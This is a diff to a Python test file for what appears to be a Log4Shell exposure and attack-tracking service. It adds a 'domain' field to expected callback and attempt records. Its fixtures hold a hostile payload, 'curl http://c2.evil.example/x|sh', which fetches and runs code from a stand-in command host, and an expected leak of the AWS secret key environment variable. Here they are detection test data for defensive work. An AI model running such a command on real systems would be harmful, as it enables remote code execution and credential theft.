@@ -97,7 +97,8 @@ def run(kind):
     check(t + "by-version", vers.get(("log4j-core", "2.14.1"), {}).get("devices_vulnerable") == 3 and
           vers[("log4j-core", "2.0-beta9")]["files_vulnerable"] == 2 and
           vers[("log4j-core", "2.17.1")]["devices_safe"] == 1, ov["by_version"])
-    check(t + "callbacks", ov["callbacks"] == [{"host": "203.0.113.7", "devices": 1, "attempts": 1}], ov["callbacks"])
+    check(t + "callbacks", ov["callbacks"] == [{"host": "203.0.113.7", "domain": "203.0.113.7", "devices": 1,
+                                                  "attempts": 1}], ov["callbacks"])
     # the lists behind the overview's tables, filtered
     st, _, data = s.get("/api/v1/remediation", reader)
     rl = json.loads(data)["items"] if st == 200 else []
@@ -217,7 +218,8 @@ def run(kind):
     at = s.get_json("/api/v1/attempts?device=%d" % web1, reader)["items"]
     check_eq(t + "attempts-appended-dedup", sorted(a["line"] for a in at), [12, 13, 14])
     cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
-    check(t + "callback-counts", cb.get("evil.example") == {"host": "evil.example", "devices": 1, "attempts": 2},
+    check(t + "callback-counts", cb.get("evil.example") == {"host": "evil.example", "domain": "evil.example", "devices": 1,
+                                                    "attempts": 2},
           cb)
     # what the agent decoded is kept: a Base64 URL's command (hostile text
     # stored as sent), a non-UTF-8 one as payload_b64, the leaked lookups
@@ -229,6 +231,9 @@ def run(kind):
     at = {a["line"]: a for a in s.get_json("/api/v1/attempts?host=c2.evil.example", reader)["items"]}
     check_eq(t + "attempt-payload", at.get(15, {}).get("payload"), "curl http://c2.evil.example/x|sh <script>")
     check_eq(t + "attempt-exfil", at.get(15, {}).get("exfil"), ["env:AWS_SECRET_ACCESS_KEY", "hostName"])
+    check_eq(t + "attempt-domain", at.get(15, {}).get("domain"), "evil.example")
+    cb = {x["host"]: x for x in s.get_json("/api/v1/callbacks", reader)["items"]}
+    check_eq(t + "callback-domain", cb.get("c2.evil.example", {}).get("domain"), "evil.example")
     check_eq(t + "attempt-payload-b64", (at.get(16, {}).get("payload"), at.get(16, {}).get("payload_b64")),
              (None, "/w=="))
 
